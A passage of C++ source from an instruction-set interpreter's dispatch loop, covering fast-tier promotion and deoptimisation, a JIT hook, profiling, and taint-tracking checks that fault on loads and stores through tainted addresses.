            ++hotData[hotPcBase_[curFunc_] +
                      static_cast<uint32_t>(dp->origIndex)];
        }
        if constexpr (kProf) {
            if (--profLeft == 0) [[unlikely]] {
                profLeft = obs::Profiler::kSampleEvery;
                prof_->sample(inFast ? obs::Tier::InterpFast
                                     : obs::Tier::InterpSlow,
                              curFunc_,
                              static_cast<uint32_t>(dp->origIndex));
            }
        }
    };
    // Profiler carve brackets: stamp t0 before a bracketed operation,
    // carve the exact span after. Compile to nothing when !kProf.
    [[maybe_unused]] auto profT0 = [] {
        if constexpr (kProf)
            return obs::Profiler::nowNanos();
        else
            return uint64_t{0};
    };
    [[maybe_unused]] auto profCarve = [&](obs::Tier tier, uint64_t t0) {
        if constexpr (kProf)
            prof_->carveSince(tier, curFunc_,
                              static_cast<uint32_t>(dp->origIndex), t0);
    };
    auto src2v = [&] {
        return dp->useImm ? static_cast<uint64_t>(dp->imm)
                          : gpr_[dp->r3].val;
    };
    auto src2n = [&] { return dp->useImm ? false : gpr_[dp->r3].nat; };
    // Async-tier event emission (docs/ASYNC-TAINT.md): one
    // fixed-width event per taint-relevant micro-op, pushed before the
    // op's own side effects so the consumer replays in program order.
    // A true return means the consumer has flagged a violation
    // (sampled once per publish batch): the call site must sync(),
    // asyncStop() and SHIFT_STOPPED().
    [[maybe_unused]] auto pushEv =
        [&](dift::EvKind kind, uint8_t a, uint8_t b, uint8_t c,
            uint8_t flags, uint64_t addr, uint8_t size) {
            [[maybe_unused]] uint64_t pt0 = profT0();
            dift::Event ev;
            ev.addr = addr;
            ev.pc = dp->origIndex;
            ev.func = static_cast<int16_t>(curFunc_);
            ev.kind = static_cast<uint8_t>(kind);
            ev.flags = flags;
            ev.a = a;
            ev.b = b;
            ev.c = c;
            ev.size = size;
            bool viol = asyncTier_->push(ev);
            profCarve(obs::Tier::AsyncPublish, pt0);
            return viol;
        };
    // Raise the consumer's pending violation (call after sync()).
    [[maybe_unused]] auto asyncStop = [&] {
        applyAsyncViolation(*asyncTier_->pendingViolation());
    };
    // With the inline consumer the shadow is synchronously caught up
    // after every push, so load destinations can read back their
    // exact taint instead of a conservative maybe — which keeps the
    // maybe bits equal to the consumer's taint and lets the event
    // filter drop every clean downstream RegWrite.
    [[maybe_unused]] bool asyncInline = false;
    if constexpr (kAsync)
        asyncInline = asyncTier_->inlineConsumer();
    // Policy fence: publish, block until the consumer has replayed
    // everything, materialize the shadow bitmap into memory so
    // TaintMap readers (H1-H5 checks inside builtins and syscalls)
    // see what the synchronous engine's bitmap would hold. True when
    // a violation surfaced — the engine must stop. Call after sync().
    [[maybe_unused]] auto asyncFence = [&]() -> bool {
        // Fence waits are source-side async overhead too: the engine
        // is stalled publishing/waiting, not interpreting.
        [[maybe_unused]] uint64_t pt0 = profT0();
        const dift::Violation *v = asyncTier_->fence();
        profCarve(obs::Tier::AsyncPublish, pt0);
        if (v) {
            applyAsyncViolation(*v);
            return true;
        }
        return false;
    };
    // Common ALU tail: write the destination, charge, advance. Under
    // the async tier the otherwise-dormant NaT bit is repurposed as a
    // conservative "maybe tainted" summary of the consumer's register
    // taint (taint(r) implies maybe(r), docs/ASYNC-TAINT.md): the
    // RegWrite event is emitted only when it could set consumer taint
    // (a maybe source) or clear it (a maybe destination) — anything
    // else is provably a consumer no-op. Violation sampling is
    // skipped here (no fault can depend on an ALU op); the flag is
    // caught at the next load/store/branch-move or fence.
    auto aluDone = [&](uint64_t result, bool nat, uint64_t cost) {
        if constexpr (kAsync) {
            bool zero = dp->p1 & dift::kAnnZeroIdiom;
            bool maybe = !zero && nat;
            if (maybe || gpr_[dp->r1].nat) {
                if (asyncInline) {
                    [[maybe_unused]] uint64_t pt0 = profT0();
                    asyncTier_->inlineRegWrite(
                        static_cast<uint8_t>(dp->r1),
                        static_cast<uint8_t>(dp->r2),
                        dp->useImm ? uint8_t{0}
                                   : static_cast<uint8_t>(dp->r3),
                        zero);
                    profCarve(obs::Tier::AsyncPublish, pt0);
                } else
                    pushEv(dift::EvKind::RegWrite,
                           static_cast<uint8_t>(dp->r1),
                           static_cast<uint8_t>(dp->r2),
                           dp->useImm ? uint8_t{0}
                                      : static_cast<uint8_t>(dp->r3),
                           zero ? dift::kEvZeroIdiom : uint8_t{0}, 0,
                           0);
            }
            setGpr(dp->r1, result, maybe);
            charge(cost);
            ++pc;
            return;
        }
        setGpr(dp->r1, result, nat);
        charge(cost);
        ++pc;
    };
    auto shiftAmount = [](uint64_t v) {
        return v > 63 ? 64U : static_cast<unsigned>(v);
    };
    // A superblock entry instruction is either a standalone FpEnter or
    // a block-leading probe carrying the merged entry flag (p2 bit 2,
    // see buildFastStream); cold (demoted) blocks are rejected at
    // every promotion site.
    auto coldHead = [&](const DecodedInstr &head) {
        bool entry = head.op == Opcode::FpEnter ||
                     ((head.op == Opcode::FpChkProbe ||
                       head.op == Opcode::FpStProbe ||
                       head.op == Opcode::FpClrProbe) &&
                      (head.p2 & 4));
        return entry && fpCold_[static_cast<uint32_t>(head.callee)];
    };
    auto enterFunction = [&](int funcIndex) {
        charge(cycleModel_.call);
        if (callStack_.size() >= kMaxCallDepth) {
            sync();
            setFault(FaultKind::IllegalAddress, FaultContext::None, 0,
                     "call stack overflow");
            return;
        }
        callStack_.push_back(Frame{curFunc_, pc + 1, inFast});
        curFunc_ = funcIndex;
        pc = 0;
        df = &decoded_->functions[curFunc_];
        // Function entry is superblock 0's leader; enter the callee's
        // fast twin directly when it has one (fastEntry[0] == 0),
        // unless the entry superblock has been demoted.
        inFast = fastEnabled_ && !df->fast.empty() &&
                 !coldHead(df->fast[0]);
        code = inFast ? df->fast.data() : df->code.data();
    };
    // A failed Fp* probe: count the deopt (and its cause) against the
    // probe's superblock, demote the block to cold once deopts
    // dominate its entries, and resume the instrumented stream at the
    // elided group's own index (probes precede their group's side
    // effects, so re-execution replays nothing).
    auto probeDeopt = [&](obs::DeoptCause cause) {
        uint32_t b = static_cast<uint32_t>(dp->callee);
        ++fpDeoptTotal_;
        ++fpDeoptCause_[static_cast<size_t>(cause)];
        uint32_t d = ++fpDeopts_[b];
        if (d >= kFpColdDeopts && d * 2 >= fpEnters_[b])
            fpCold_[b] = 1;
        inFast = false;
        pc = static_cast<uint64_t>(dp->target);
        code = df->code.data();
        if constexpr (kObs) {
            if (obs_) [[unlikely]]
                obs_->emitCold(obs::Ev::FastDeopt,
                               static_cast<uint16_t>(cause), curFunc_,
                               code[pc].origIndex);
        }
    };
    // Flight-recorder instants for the fast tier's other transitions;
    // compiled out of the production instantiation entirely.
    auto obsFastEnter = [&] {
        if constexpr (kObs) {
            if (obs_) [[unlikely]]
                obs_->emitCold(obs::Ev::FastEnter, 0, curFunc_,
                               dp->origIndex);
        }
    };
    auto obsColdBail = [&](uint64_t slowPc) {
        if constexpr (kObs) {
            if (obs_) [[unlikely]]
                obs_->emitCold(obs::Ev::FastColdBail, 0, curFunc_,
                               df->code[slowPc].origIndex);
        }
    };
    // A slow-stream taken branch whose target opens a fast twin
    // promotes into the fast tier (every branch target is a leader,
    // so the mapping always exists when `fast` is nonempty). Demoted
    // (cold) superblocks are rejected here, at the promotion site, so
    // a hot loop over tainted data settles in the instrumented stream
    // instead of bouncing through FpEnter's bail on every back edge.
    auto maybeFast = [&](uint64_t target) {
        if (!inFast && fastEnabled_ && !df->fast.empty()) {
            int32_t fe = df->fastEntry[target];
            if (fe >= 0) {
                if (coldHead(df->fast[fe])) {
                    ++fpColdBails_;
                    obsColdBail(target);
                    return target;
                }
                inFast = true;
                code = df->fast.data();
                return static_cast<uint64_t>(fe);
            }
        }
        return target;
    };
    // JIT tier (docs/JIT.md): at every control-transfer landing point
    // (all of which are superblock leaders in compiled code), feed the
    // hotness counter and, once the function is compiled, run native
    // code until it bails back. The compiled code accumulates into
    // jitCtx_ and the hook folds the deltas into the same locals the
    // interpreter uses, so all simulated numbers stay bit-identical.
    // Returns 0 = keep interpreting here, 1 = ran and bailed out
    // (locals re-synced to the bail point), 2 = ran and stopped.
    auto jitHook = [&]() -> int {
        if (!jitActive_ || stopped_)
            return 0;
        jit::CodeCache::Credit credit;
        jit::CodeCache::Entry en =
            jitActive_->entryAt(curFunc_, inFast, pc, &credit);
        jitCompiled_ += credit.blocks;
        jitCodeBytes_ += credit.codeBytes;
        jitEvictions_ += credit.evictions;
        if constexpr (kProf) {
            // entryAt timed any synchronous compile it ran on this
            // thread; carve that span out of the interpreter tier.
            if (credit.compileNanos)
                prof_->carveSince(obs::Tier::Compile, curFunc_,
                                  static_cast<uint32_t>(
                                      code[pc].origIndex),
                                  obs::Profiler::nowNanos() -
                                      credit.compileNanos);
        }
        if (!en)
            return 0;
        uint64_t budget = maxSteps - steps;
        if (budget == 0)
            return 0;
        jitCtx_.cycles = 0;
        jitCtx_.instrs = 0;
        jitCtx_.stall = 0;
        jitCtx_.coldBails = 0;
        jitCtx_.deopts = 0;
        jitCtx_.fpEntered = 0;
        jitCtx_.loadMask = loadMask;
        jitCtx_.stepsLeft = static_cast<int64_t>(budget);
        if constexpr (kProf)
            prof_->enter(inFast ? obs::Tier::JitFast
                                : obs::Tier::JitSlow,
                         curFunc_,
                         static_cast<uint32_t>(code[pc].origIndex));
        en.thunk(&jitCtx_, en.code);
        ++jitEntered_;
        // On a fault the runtime helpers already folded-and-zeroed the
        // accumulators into the members (so the fault handler saw a
        // synced machine); these adds then fold zeros.
        steps += budget - static_cast<uint64_t>(jitCtx_.stepsLeft);
        cycles += jitCtx_.cycles;
        instrs += jitCtx_.instrs;
        stallCycles_ += jitCtx_.stall;
        fpColdBails_ += jitCtx_.coldBails;
        jitDeopts_ += jitCtx_.deopts;
        fpEnteredTotal_ += jitCtx_.fpEntered;
        loadMask = jitCtx_.loadMask;
        pc = jitCtx_.exitPc;
        inFast = jitCtx_.exitInFast != 0;
        // Compiled calls and returns cross function boundaries (the
        // transfer helpers update curFunc_/callStack_), so the local
        // decode view must follow before resuming.
        df = &decoded_->functions[curFunc_];
        code = inFast ? df->fast.data() : df->code.data();
        if (stopped_) {
            // Attribute the compiled span; pc may be stale on a stop,
            // so close the context at a neutral site.
            if constexpr (kProf)
                prof_->enter(obs::Tier::Host, curFunc_, 0);
            return 2;
        }
        if constexpr (kProf)
            prof_->enter(inFast ? obs::Tier::InterpFast
                                : obs::Tier::InterpSlow,
                         curFunc_,
                         static_cast<uint32_t>(code[pc].origIndex));
        ++jitBailouts_;
        return 1;
    };
// The JIT never runs under the tracing/hot-pc instantiations (run()
// refuses to activate it there), so the production check is the only
// one that compiles in. SHIFT_STOPPED expands per dispatch mode at
// the use site; no do-while wrapper, because the portable mode's
// `break` must reach the enclosing switch.
#define SHIFT_JIT_CHECK()                                               \
    if constexpr (!kObs && !kHotPc) {                                   \
        if (jitHook() == 2)                                             \
            SHIFT_STOPPED();                                            \
    }

    // Attribution starts in the interpreter's tier: begin() opened the
    // context at Host, charging run setup there; everything from here
    // accrues to the stream being executed.
    if constexpr (kProf)
        prof_->enter(inFast ? obs::Tier::InterpFast
                            : obs::Tier::InterpSlow,
                     curFunc_,
                     static_cast<uint32_t>(code[pc].origIndex));

    // Run-start entry: the resume pc is a block leader whenever the
    // previous exit was one (which every JIT bail and most interpreter
    // stops are); otherwise entryFor misses and we interpret.
    if constexpr (!kObs && !kHotPc) {
        if (jitHook() == 2) {
            sync();
            dispatches_ += steps;
            return;
        }
    }

#if SHIFT_THREADED_DISPATCH
    // One entry per Opcode, in declaration order.
    static const void *const kJump[] = {
        &&L_Label, &&L_Nop,
        &&L_Add, &&L_Sub, &&L_Mul, &&L_Div, &&L_Mod, &&L_DivU, &&L_ModU,
        &&L_And, &&L_Andcm, &&L_Or, &&L_Xor,
        &&L_Shl, &&L_Shr, &&L_Sar,
        &&L_Sxt, &&L_Zxt, &&L_Extr, &&L_Shladd, &&L_Mov, &&L_Movi,
        &&L_Cmp, &&L_CmpNat, &&L_Tnat, &&L_Tbit,
        &&L_Ld, &&L_St,
        &&L_Chk,
        &&L_Br, &&L_BrCall, &&L_BrRet, &&L_BrCalli,
        &&L_MovToBr, &&L_MovFromBr, &&L_MovToUnat, &&L_MovFromUnat,
        &&L_Setnat, &&L_Clrnat,
        &&L_Syscall, &&L_Halt,
        &&L_FusedTagAddr, &&L_FusedChkByte, &&L_FusedChkWord,
        &&L_FusedClearNat, &&L_FusedStUpdByte, &&L_FusedStUpdWord,
        &&L_FpEnter, &&L_FpChkProbe, &&L_FpStProbe, &&L_FpClrProbe,
    };
    static_assert(sizeof(kJump) / sizeof(kJump[0]) == kNumOpcodes,
                  "dispatch table must cover every opcode");

#define SHIFT_OP(name) L_##name:

// The front end stamped at the end of every handler: count the step,
// fetch, divert to the trace/nullify tails, charge a load-use stall,
// and jump through the opcode table. SHIFT_NEXT() checks stopped_
// first; handler exits that cannot have stopped the machine (no fault,
// no callback) use SHIFT_NEXT_FAST() and skip that load+branch, and
// exits that definitely stopped it (setFault / halt) take
// SHIFT_STOPPED() straight to the sync-and-return tail.
#define SHIFT_NEXT_FAST()                                               \
    do {                                                                \
        if (++steps > maxSteps)                                         \
            goto stepLimitHit;                                          \
        dp = &code[pc];                                                 \
        statIdx = dp->statIdx;                                          \
        if (trace_)                                                     \
            goto traced;                                                \
        if (dp->qp != 0 && !pred_[dp->qp])                              \
            goto nullified;                                             \
        if (dp->useMask & loadMask) {                                   \
            cycles += cycleModel_.loadUseStall;                         \
            stallCycles_ += cycleModel_.loadUseStall;                   \
            cyFlat[statIdx] += cycleModel_.loadUseStall;                \
        }                                                               \
        loadMask = dp->op == Opcode::Ld ? 1ULL << (dp->r1 & 63) : 0;    \
        goto *kJump[static_cast<size_t>(dp->op)];                       \
    } while (0)
#define SHIFT_NEXT()                                                    \
    do {                                                                \
        if (stopped_)                                                   \
            goto doneRun;                                               \
        SHIFT_NEXT_FAST();                                              \
    } while (0)
#define SHIFT_STOPPED() goto doneRun

    SHIFT_NEXT();

    // Out-of-line front-end tails, shared by every SHIFT_NEXT() copy.
traced:
    // Trace hooks get the architectural instruction; the micro-op's
    // origIndex recovers it from the source stream. The end-of-
    // function sentinel is never traced (the legacy stepper faults
    // before its trace point in that state). With tracing enabled
    // every dispatch passes through here, so this stopped_ check is
    // what catches a hook that stops the machine — matching legacy,
    // which finishes the hooked instruction and then exits its run
    // loop before the next trace point.
    if (stopped_)
        goto doneRun;
    if (dp->op != Opcode::Label) {
        sync();
        trace_(*this, df->src->code[dp->origIndex]);
        pc = pc_;
        dp = &code[pc];
        statIdx = dp->statIdx;
    }
    if (dp->qp != 0 && !pred_[dp->qp])
        goto nullified;
    if (dp->useMask & loadMask) {
        cycles += cycleModel_.loadUseStall;
        stallCycles_ += cycleModel_.loadUseStall;
        cyFlat[statIdx] += cycleModel_.loadUseStall;
    }
    loadMask = dp->op == Opcode::Ld ? 1ULL << (dp->r1 & 63) : 0;
    goto *kJump[static_cast<size_t>(dp->op)];

nullified:
    // Qualifying predicate: a false predicate nullifies the
    // instruction, but it still occupies an issue slot. Checked
    // dispatch: the traced tail funnels through here and a trace hook
    // may have stopped the machine.
    charge(cycleModel_.nullified);
    loadMask = 0;
    ++pc;
    SHIFT_NEXT();

#else // !SHIFT_THREADED_DISPATCH: portable switch dispatch

#define SHIFT_OP(name) case Opcode::name:
#define SHIFT_NEXT() break
// The while (!stopped_) loop re-checks on every iteration, so the
// fast/stopped exits collapse to the same break.
#define SHIFT_NEXT_FAST() break
#define SHIFT_STOPPED() break

    while (!stopped_) {
        if (++steps > maxSteps) {
            sync();
            setFault(FaultKind::StepLimit, FaultContext::None, 0,
                     "step limit exceeded");
            return;
        }
        dp = &code[pc];
        statIdx = dp->statIdx;

        if (trace_ && dp->op != Opcode::Label) {
            sync();
            trace_(*this, df->src->code[dp->origIndex]);
            pc = pc_;
            dp = &code[pc];
            statIdx = dp->statIdx;
        }

        // Qualifying predicate: a false predicate nullifies the
        // instruction, but it still occupies an issue slot.
        if (dp->qp != 0 && !pred_[dp->qp]) {
            charge(cycleModel_.nullified);
            loadMask = 0;
            ++pc;
            continue;
        }

        // Load-use stall (see stepLegacy): the operand walk is
        // precomputed into a use mask, so the check is one AND.
        if (dp->useMask & loadMask) {
            cycles += cycleModel_.loadUseStall;
            stallCycles_ += cycleModel_.loadUseStall;
            cyFlat[statIdx] += cycleModel_.loadUseStall;
        }
        loadMask = dp->op == Opcode::Ld ? 1ULL << (dp->r1 & 63) : 0;

        switch (dp->op) {
#endif

    SHIFT_OP(Nop)
        charge(cycleModel_.alu);
        ++pc;
        SHIFT_NEXT_FAST();

    SHIFT_OP(Add)
        aluDone(gpr_[dp->r2].val + src2v(),
                gpr_[dp->r2].nat || src2n(), cycleModel_.alu);
        SHIFT_NEXT_FAST();
    SHIFT_OP(Sub)
        aluDone(gpr_[dp->r2].val - src2v(),
                gpr_[dp->r2].nat || src2n(), cycleModel_.alu);
        SHIFT_NEXT_FAST();
    SHIFT_OP(And)
        aluDone(gpr_[dp->r2].val & src2v(),
                gpr_[dp->r2].nat || src2n(), cycleModel_.alu);
        SHIFT_NEXT_FAST();
    SHIFT_OP(Andcm)
        aluDone(gpr_[dp->r2].val & ~src2v(),
                gpr_[dp->r2].nat || src2n(), cycleModel_.alu);
        SHIFT_NEXT_FAST();
    SHIFT_OP(Or)
        aluDone(gpr_[dp->r2].val | src2v(),
                gpr_[dp->r2].nat || src2n(), cycleModel_.alu);
        SHIFT_NEXT_FAST();
    SHIFT_OP(Xor)
        aluDone(gpr_[dp->r2].val ^ src2v(),
                gpr_[dp->r2].nat || src2n(), cycleModel_.alu);
        SHIFT_NEXT_FAST();
    SHIFT_OP(Mul)
        aluDone(gpr_[dp->r2].val * src2v(),
                gpr_[dp->r2].nat || src2n(), cycleModel_.mul);
        SHIFT_NEXT_FAST();

    SHIFT_OP(Div)
    SHIFT_OP(Mod)
    SHIFT_OP(DivU)
    SHIFT_OP(ModU) {
        uint64_t a = gpr_[dp->r2].val;
        uint64_t b = src2v();
        bool nat = gpr_[dp->r2].nat || src2n();
        uint64_t result = 0;
        if (b == 0) {
            bool taintedDivisor = nat;
            if constexpr (kAsync) {
                // The maybe bit prunes the fence: a clean maybe means
                // the consumer's taint is certainly clean too, so the
                // fault fires without quiescing. Otherwise ask the
                // consumer's shadow whether an operand is really
                // tainted — the sync engine's NaT divisor suppresses
                // the fault (result 0, taint propagates via aluDone).
                if (nat) {
                    sync();
                    if (asyncFence())
                        SHIFT_STOPPED();
                    taintedDivisor =
                        asyncTier_->regTaint(dp->r2) ||
                        (!dp->useImm && asyncTier_->regTaint(dp->r3));
                }
            }
            if (!taintedDivisor) {
                sync();
                setFault(FaultKind::DivByZero, FaultContext::None, 0,
                         "division by zero");
                SHIFT_STOPPED();
            }
            result = 0;
        } else if (dp->op == Opcode::DivU) {
            result = a / b;
        } else if (dp->op == Opcode::ModU) {
            result = a % b;
        } else {
            int64_t sa = static_cast<int64_t>(a);
            int64_t sb = static_cast<int64_t>(b);
            if (sa == INT64_MIN && sb == -1) {
                result = dp->op == Opcode::Div
                             ? static_cast<uint64_t>(INT64_MIN)
                             : 0;
            } else if (dp->op == Opcode::Div) {
                result = static_cast<uint64_t>(sa / sb);
            } else {
                result = static_cast<uint64_t>(sa % sb);
            }
        }
        aluDone(result, nat, cycleModel_.div);
        SHIFT_NEXT_FAST();
    }

    SHIFT_OP(Shl) {
        unsigned sh = shiftAmount(src2v());
        uint64_t a = gpr_[dp->r2].val;
        aluDone(sh >= 64 ? 0 : (a << sh),
                gpr_[dp->r2].nat || src2n(), cycleModel_.alu);
        SHIFT_NEXT_FAST();
    }
    SHIFT_OP(Shr) {
        unsigned sh = shiftAmount(src2v());
        uint64_t a = gpr_[dp->r2].val;
        aluDone(sh >= 64 ? 0 : (a >> sh),
                gpr_[dp->r2].nat || src2n(), cycleModel_.alu);
        SHIFT_NEXT_FAST();
    }
    SHIFT_OP(Sar) {
        unsigned sh = shiftAmount(src2v());
        int64_t sa = static_cast<int64_t>(gpr_[dp->r2].val);
        uint64_t result = static_cast<uint64_t>(
            sh >= 64 ? (sa < 0 ? -1 : 0) : (sa >> sh));
        aluDone(result, gpr_[dp->r2].nat || src2n(), cycleModel_.alu);
        SHIFT_NEXT_FAST();
    }
    SHIFT_OP(Sxt)
        aluDone(static_cast<uint64_t>(
                    signExtend(gpr_[dp->r2].val, dp->size * 8)),
                gpr_[dp->r2].nat || src2n(), cycleModel_.alu);
        SHIFT_NEXT_FAST();
    SHIFT_OP(Zxt)
        aluDone(gpr_[dp->r2].val & lowMask(dp->size * 8),
                gpr_[dp->r2].nat || src2n(), cycleModel_.alu);
        SHIFT_NEXT_FAST();
    SHIFT_OP(Extr)
        aluDone((gpr_[dp->r2].val >> dp->pos) &
                    lowMask(dp->len ? dp->len : 64),
                gpr_[dp->r2].nat || src2n(), cycleModel_.alu);
        SHIFT_NEXT_FAST();
    SHIFT_OP(Shladd)
        aluDone((gpr_[dp->r2].val << dp->pos) + src2v(),
                gpr_[dp->r2].nat || src2n(), cycleModel_.alu);
        SHIFT_NEXT_FAST();
    SHIFT_OP(Mov)
        aluDone(gpr_[dp->r2].val, gpr_[dp->r2].nat || src2n(),
                cycleModel_.alu);
        SHIFT_NEXT();
    SHIFT_OP(Movi)
        aluDone(src2v(), false, cycleModel_.alu);
        SHIFT_NEXT_FAST();

    SHIFT_OP(CmpNat)
        if (!features_.natAwareCompare) {
            sync();
            setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                     "cmp.nat requires the natAwareCompare feature");
            SHIFT_STOPPED();
        }
        // falls through to Cmp
    SHIFT_OP(Cmp) {
        uint64_t a = gpr_[dp->r2].val;
        uint64_t b = src2v();
        bool nat = gpr_[dp->r2].nat || src2n();
        bool taken = false;
        int64_t sa = static_cast<int64_t>(a);
        int64_t sb = static_cast<int64_t>(b);
        switch (dp->rel) {
          case CmpRel::Eq: taken = a == b; break;
          case CmpRel::Ne: taken = a != b; break;
          case CmpRel::Lt: taken = sa < sb; break;
          case CmpRel::Le: taken = sa <= sb; break;
          case CmpRel::Gt: taken = sa > sb; break;
          case CmpRel::Ge: taken = sa >= sb; break;
          case CmpRel::LtU: taken = a < b; break;
          case CmpRel::LeU: taken = a <= b; break;
          case CmpRel::GtU: taken = a > b; break;
          case CmpRel::GeU: taken = a >= b; break;
        }
        if (!kAsync && dp->op == Opcode::Cmp && nat) {
            // NaT operand clears both predicates (see execCmp). Under
            // the async tier the NaT bit is a maybe-taint summary,
            // not an architectural NaT, so predicates compute
            // normally (tainted compares are the instrumenter's
            // compare-alert markers, replayed by the consumer).
            setPred(dp->p1, false);
            setPred(dp->p2, false);
        } else {
            setPred(dp->p1, taken);
            setPred(dp->p2, !taken);
        }
        charge(cycleModel_.alu);
        ++pc;
        SHIFT_NEXT_FAST();
    }

    SHIFT_OP(Tnat) {
        // Maybe bits are not architectural NaTs: under the async tier
        // tnat reads as clean, matching the uninstrumented stream the
        // engine is replaying (see docs/ASYNC-TAINT.md limitations).
        bool n = !kAsync && gpr_[dp->r2].nat;
        setPred(dp->p1, n);
        setPred(dp->p2, !n);
        charge(cycleModel_.alu);
        ++pc;
        SHIFT_NEXT_FAST();
    }

    SHIFT_OP(Tbit) {
        if (!kAsync && gpr_[dp->r2].nat) {
            setPred(dp->p1, false);
            setPred(dp->p2, false);
        } else {
            bool b = bit(gpr_[dp->r2].val,
                         static_cast<unsigned>(dp->imm));
            setPred(dp->p1, b);
            setPred(dp->p2, !b);
        }
        charge(cycleModel_.alu);
        ++pc;
        SHIFT_NEXT_FAST();
    }

    SHIFT_OP(Ld) {
        const Gpr &addrReg = gpr_[dp->r2];
        uint64_t addr = addrReg.val;
        if constexpr (kAsync) {
            // Emitted before the access: a violation replayed from
            // this event (tainted pointer) overrides whatever the
            // engine-side access does next, exactly where the sync
            // engine's NaT check would have fired. A plain load —
            // untracked, unrelaxed, not a fill — with a clean-maybe
            // address and a clean-maybe destination is provably a
            // consumer no-op (no taint to clear, no L1 possible) and
            // is filtered out.
            uint8_t fl = 0;
            if (dp->p1 & dift::kAnnChecked)
                fl |= dift::kEvChecked;
            if (dp->p1 & dift::kAnnRelaxed)
                fl |= dift::kEvRelaxed;
            if (dp->fill)
                fl |= dift::kEvFill;
            if (fl != 0 || addrReg.nat || gpr_[dp->r1].nat) {
                bool viol;
                if (asyncInline) {
                    [[maybe_unused]] uint64_t pt0 = profT0();
                    viol = asyncTier_->inlineLoad(
                        static_cast<uint8_t>(dp->r1),
                        static_cast<uint8_t>(dp->r2), fl, addr,
                        dp->size, dp->origIndex,
                        static_cast<int16_t>(curFunc_));
                    profCarve(obs::Tier::AsyncPublish, pt0);
                } else {
                    viol = pushEv(dift::EvKind::Load,
                                  static_cast<uint8_t>(dp->r1),
                                  static_cast<uint8_t>(dp->r2), 0, fl,
                                  addr, dp->size);
                }
                if (viol) {
                    sync();
                    asyncStop();
                    SHIFT_STOPPED();
                }
            }
        }
        if (dp->spec) {
            // Speculative load: failures defer into the NaT bit.
            if (addrReg.nat ||
                mem_.probe(addr, dp->size) != MemFault::None) {
                setGpr(dp->r1, 0, true);
                charge(cycleModel_.loadBase);
                ++pc;
                SHIFT_NEXT_FAST();
            }
        } else if (!kAsync && addrReg.nat) {
            // Maybe bits never fault: under the async tier the
            // consumer replays this check from the Load event.
            sync();
            // statIdx % kNumOrigClass is the OrigClass (the flat
            // index is prov * kNumOrigClass + cls).
            FaultContext ctx =
                dp->statIdx % kNumOrigClass ==
                        static_cast<int>(OrigClass::ForStore)
                    ? FaultContext::StoreAddress
                    : FaultContext::LoadAddress;
            setFault(FaultKind::NatConsumption, ctx, addr,
                     "load through a NaT (tainted) address");
            SHIFT_STOPPED();
        }
        uint64_t value = 0;
        bool nat = false;
        MemFault mf = dp->fill ? mem_.readFill(addr, value, nat)
                               : mem_.read(addr, dp->size, value);
        if (mf != MemFault::None) {
            sync();
            setFault(FaultKind::IllegalAddress,
                     FaultContext::LoadAddress, addr,
                     "load from illegal address");
            SHIFT_STOPPED();
        }
        if constexpr (kAsync) {
            // Maybe-out for the destination. Inline consumer: the
            // replay already ran inside push(), so the exact taint is
            // one shadow read away. Threaded consumer: a tracked
            // (checked or relaxed) load may pull taint out of memory
            // the engine can't see, so conservatively maybe. Either
            // way a fill keeps the spill-time maybe bit readFill
            // recovered from the NaT sidecar, and a plain load never
            // propagates memory taint under the instrumenter's rules.
            if (!dp->fill) {
                nat = asyncInline
                          ? asyncTier_->regTaint(dp->r1)
                          : (dp->p1 & (dift::kAnnChecked |
                                       dift::kAnnRelaxed)) != 0;
            }
        }
        setGpr(dp->r1, value, nat);
        ++loadCount_;
        charge(cycleModel_.loadBase);
        uint64_t extra = dcache_.access(addr) ? cycleModel_.loadHit
                                              : cycleModel_.loadMiss;
        cycles += extra;
        cyFlat[statIdx] += extra;
        ++pc;
        SHIFT_NEXT_FAST();
    }

    SHIFT_OP(St) {
        const Gpr &addrReg = gpr_[dp->r1];
        const Gpr &srcReg = gpr_[dp->r2];
        uint64_t addr = addrReg.val;
        if constexpr (kAsync) {
            // Tracked stores and spills always emit (their bitmap RMW
            // / spill-shadow update clears stale taint even when the
            // source is clean); a plain store with clean-maybe source
            // and address is provably a consumer no-op (no shadow
            // write, no L2/StoreValue possible) and is filtered out.
            uint8_t fl = 0;
            if (dp->p1 & dift::kAnnChecked)
                fl |= dift::kEvChecked;
            if (dp->p1 & dift::kAnnRelaxed)
                fl |= dift::kEvRelaxed;
            if (dp->spill)
                fl |= dift::kEvSpill;
            if ((fl & (dift::kEvChecked | dift::kEvSpill)) != 0 ||
                srcReg.nat || addrReg.nat) {
                bool viol;
                if (asyncInline) {
                    [[maybe_unused]] uint64_t pt0 = profT0();
                    viol = asyncTier_->inlineStore(
                        static_cast<uint8_t>(dp->r2),
                        static_cast<uint8_t>(dp->r1), fl, addr,
                        dp->size, dp->origIndex,
                        static_cast<int16_t>(curFunc_));
                    profCarve(obs::Tier::AsyncPublish, pt0);
                } else {
                    viol = pushEv(dift::EvKind::Store,
                                  static_cast<uint8_t>(dp->r2),
                                  static_cast<uint8_t>(dp->r1), 0, fl,
                                  addr, dp->size);
                }
                if (viol) {
                    sync();
                    asyncStop();
                    SHIFT_STOPPED();
                }
            }
        }
        if (!kAsync && addrReg.nat) {
            sync();
            setFault(FaultKind::NatConsumption,
                     FaultContext::StoreAddress, addr,
                     "store through a NaT (tainted) address");
            SHIFT_STOPPED();
        }
        if (!kAsync && srcReg.nat && !dp->spill) {
            sync();
            setFault(FaultKind::NatConsumption,
                     FaultContext::StoreValue, addr,
                     "plain store of a NaT source register");
            SHIFT_STOPPED();
        }
        MemFault mf;
        if (dp->spill) {
            mf = mem_.writeSpill(addr, srcReg.val, srcReg.nat);
            if (mf == MemFault::None) {
                unsigned bitIdx =
                    static_cast<unsigned>((addr >> 3) & 63);
                unat_ = insertBit(unat_, bitIdx, srcReg.nat);
            }
        } else {
            mf = mem_.write(addr, dp->size, srcReg.val);
        }
        if (mf != MemFault::None) {
            sync();
            setFault(FaultKind::IllegalAddress,
                     FaultContext::StoreAddress, addr,
                     "store to illegal address");
            SHIFT_STOPPED();
        }
        if constexpr (kObs) {
            // A nonzero write into the tag region spreads taint: the
            // provenance chain wants it.
            if (obs_ && !dp->spill && srcReg.val != 0 &&
                regionOf(addr) == kTagRegion) [[unlikely]]
                obs_->emitCold(obs::Ev::TaintStore, 0, curFunc_,
                               dp->origIndex, addr);
        }
        ++storeCount_;
        charge(cycleModel_.storeBase);
        uint64_t extra = dcache_.access(addr) ? 0 : cycleModel_.storeMiss;
        cycles += extra;
        cyFlat[statIdx] += extra;
        ++pc;
        SHIFT_NEXT_FAST();
    }

    SHIFT_OP(Chk)
        // Target linked at decode time; unresolved labels were
